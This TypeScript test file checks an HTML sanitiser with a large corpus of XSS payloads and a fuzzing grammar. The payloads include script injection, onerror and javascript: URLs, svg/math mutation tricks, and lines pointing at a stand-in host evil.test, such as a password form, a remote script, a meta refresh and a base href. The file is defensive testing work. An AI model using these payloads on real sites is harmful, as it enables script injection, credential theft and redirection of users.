import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanerOf } from '#lib/bff/clean-answer.ts';
import { cleanHtml } from '#lib/bff/clean-html.ts';
import { calls } from '#lib/calls/table.ts';
import { ask, isLong, leaveEnv, setEnv } from './harness.ts';
import { type Stub, send, startStub } from './stub.ts';

let stub: Stub;
beforeAll(async () => {
  stub = await startStub();
  setEnv({ UPSTREAM_URL: stub.origin });
});
afterAll(async () => {
  await leaveEnv();
  await stub.close();
});

const ALLOWED =
  /^(?:A|B|BLOCKQUOTE|BR|CAPTION|CODE|DD|DIV|DL|DT|EM|FIGCAPTION|FIGURE|H[2-6]|HR|I|IMG|LI|OL|P|PRE|S|SMALL|SPAN|STRONG|SUB|SUP|TABLE|TBODY|TD|TFOOT|TH|THEAD|TR|U|UL)$/;
const ATTRIBUTES: Record<string, RegExp> = {
  href: /^(?:https:\/\/|\/(?!\/))/,
  src: /^\/img\/img\.example\.test\//,
  rel: /^noopener noreferrer nofollow ugc$/,
  target: /^_blank$/,
  title: /[\s\S]*/,
  alt: /[\s\S]*/,
  loading: /^lazy$/,
  width: /^\d{1,4}$/,
  height: /^\d{1,4}$/,
  colspan: /^\d{1,2}$/,
  rowspan: /^\d{1,2}$/,
};

/** What a browser would make of the text, checked element by element: the judge is a parser, not a pattern. */
function faults(html: string): string[] {
  const { document } = new JSDOM(`<body>${html}</body>`).window;
  const found: string[] = [];
  for (const element of document.body.querySelectorAll('*')) {
    if (!ALLOWED.test(element.tagName)) found.push(element.tagName);
    for (const { name, value } of element.attributes)
      if (!ATTRIBUTES[name]?.test(value)) found.push(`${element.tagName} ${name}=${value}`);
    if (element.hasAttribute('target') && !element.hasAttribute('rel')) found.push('target without rel');
  }
  return found;
}

const js = 'alert(1)';
const corpus = [
  `<script>${js}</script>`,
  `<SCRIPT SRC=//evil.test/x.js></SCRIPT>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<img src=x onerror=${js}>`,
  `<img src="x" onerror="${js}" src="https://img.example.test/a.png">`,
  `<svg onload=${js}>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><textarea><img src=x onerror=${js}></textarea></svg>`,
  `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${js}></style></mglyph></table></mtext></math>`,
  `<math><a xlink:href="javascript:${js}">x</a></math>`,
  `<a href="javascript:${js}">x</a>`,
  `<a href=" javascript:${js}">x</a>`,
  `<a href="java\nscript:${js}">x</a>`,
  `<a href="java&#09;script:${js}">x</a>`,
  `<a href="&#106;avascript:${js}">x</a>`,
  `<a href="JaVaScRiPt:${js}">x</a>`,
  `<a href="data:text/html,<script>${js}</script>">x</a>`,
  `<a href="vbscript:x">x</a>`,
  `<a href="//evil.test">x</a>`,
  `<a href="/\\evil.test">x</a>`,
  `<a href="\\\\evil.test">x</a>`,
  `<a href="http://evil.test">x</a>`,
  `<a href="blob:https://evil.test/x">x</a>`,
  `<a href="https://evil.test" onclick="${js}" style="position:fixed" target="_top">x</a>`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
  `<form action="https://evil.test"><input name=password><button formaction="javascript:${js}">x</button></form>`,
  `<style>@import 'https://evil.test/x.css';</style>`,
  `<p style="background:url(https://evil.test)">x</p>`,
  `<link rel=stylesheet href=https://evil.test/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.test">`,
  `<base href="https://evil.test/">`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>"></noscript>`,
  `<xmp><img src=x onerror=${js}></xmp>`,
  `<option><style></option></select><img src=x onerror=${js}></style></option>`,
  `<select><option><img src=x onerror=${js}></select>`,
  `<template><img src=x onerror=${js}></template>`,
  `<title><img src=x onerror=${js}></title>`,
  `<plaintext><img src=x onerror=${js}>`,
  `<!--><img src=x onerror=${js}>-->`,
  `<![CDATA[<img src=x onerror=${js}>]]>`,
  `<p/onmouseover=${js}>x</p>`,
  `<p on\u0000click=${js}>x</p>`,
  `<div ontoggle=${js} popover id=x>x</div><button popovertarget=x>x</button>`,
  `<details open ontoggle=${js}>x</details>`,
  `<video><source onerror=${js}></video><audio src=x onerror=${js}>`,
  `<body onload=${js}>`,
  `<marquee onstart=${js}>x</marquee>`,
  `<img src="https://evil.test/pixel.png"><img src="data:image/svg+xml,<svg onload=${js}>">`,
  `<img srcset="https://evil.test/a.png 1x" src="https://img.example.test/../a.png">`,
  `<table background="javascript:${js}"><td background="javascript:${js}">x</td></table>`,
  `<p id="__next" name="location" class="x">x</p>`,
  `<a name="document"></a><img name="cookie">`,
  `&lt;script&gt;${js}&lt;/script&gt;`,
  `<<script>${js}//<</script>`,
  `<img src=\`javascript:${js}\`>`,
  `"><script>${js}</script>`,
  `<p title="&quot;><img src=x onerror=${js}>">x</p>`,
  '<'.repeat(5000),
  '<div>'.repeat(3000),
  `${'<b>'.repeat(200)}<img src=x onerror=alert(1)>`,
];

describe('W1: upstream HTML', () => {
  it.each(corpus)('holds nothing that runs, frames, sends or styles: %s', html => {
    const clean = cleanHtml(html);
    expect(faults(clean)).toEqual([]);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it('keeps what people write', () => {
    const html =
      '<h1>Hi</h1><p>A <b>b</b> <a href="https://x.test/a?b=1&amp;c=2">c</a> <a href="/rng">d</a></p><ul><li>e</li></ul><img src="https://img.example.test/p/a.png" alt="f">';
    const clean = cleanHtml(html);
    expect(clean).toContain('<h2>Hi</h2>');
    expect(clean).toContain('href="https://x.test/a?b=1&amp;c=2"');
    expect(clean).toContain('<a href="/rng">d</a>');
    expect(clean).toContain('src="/img/img.example.test/p/a.png"');
    expect(cleanHtml(clean)).toBe(clean);
  });

  it('no text of the grammar gets through, and cleaning twice changes nothing', () => {
    const tag = fc.constantFrom(
      ...'a img svg math style script p b table td option select textarea noscript xmp template form iframe title'.split(
        ' ',
      ),
    );
    const attribute = fc.constantFrom(
      ...[
        `onerror=${js}`,
        `href="javascript:${js}"`,
        `src=x`,
        'style="x"',
        `href='https://x.test"'`,
        '/',
        '"',
        "'",
        '`',
        'title="<img src=x onerror=1>"',
      ],
      ...['xlink:href=javascript:1', 'src="https://img.example.test/a.png"', 'target=_top', '\0', 'id=x'],
    );
    const piece = fc.oneof(
      fc
        .tuple(tag, fc.array(attribute, { maxLength: 3 }))
        .map(([name, list]) => `<${name} ${list.join(' ')}>`),
      tag.map(name => `</${name}>`),
      fc.constantFrom(
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '&lt;',
        '&#x3c;',
        '<',
        '>',
        '"',
        "'",
        '&',
        ' ',
        'text',
        '</',
        '<?',
        '<!',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), pieces => {
        const clean = cleanHtml(pieces.join(''));
        expect(faults(clean)).toEqual([]);
        expect(cleanHtml(clean)).toBe(clean);
      }),
      { numRuns: isLong ? 50_000 : 400 },
    );
  });

  it('is cleaned in every answer whose schema says html, before anybody reads it', async () => {
    stub.on.set('/wps/relay/MCSFE_getListAnnouncements', (_request, response) =>
      send(response, 200, {
        success: true,
        value: {
          player: [{ id: 1, title: '<b>T</b>', content: `<p>ok</p><script>${js}</script>` }],
          popup: [{ id: 2, title: 'P', content: `<img src=x onerror=${js}>`, execution: 'B' }],
          promotion: [{ id: 3, title: 'Q', content: `<a href="javascript:${js}">x</a>` }],
        },
      }),
    );
    const text = await (await ask('/wps/relay/MCSFE_getListAnnouncements')).text();
    expect(text).not.toMatch(/script|onerror|javascript|alert/);
    expect(JSON.parse(text).value.player[0].content).toBe('<p>ok</p>');
    const found = Object.entries(calls).filter(([, call]) => cleanerOf(call.answer) !== null);
    expect(found.map(([name]) => name)).toEqual(['GET /wps/relay/MCSFE_getListAnnouncements']);
  });
});
